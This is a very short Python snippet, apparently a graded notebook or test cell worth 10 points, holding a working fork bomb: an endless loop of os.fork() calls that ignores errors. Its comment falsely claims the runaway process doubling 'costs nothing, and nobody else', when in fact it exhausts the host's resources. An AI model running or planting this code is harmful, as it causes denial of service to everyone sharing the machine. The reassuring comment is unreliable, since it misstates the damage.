# A scratch cell doubles its processes for ever. It costs nothing, and nobody else.
#
# points: 10
# %% after check-1a
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
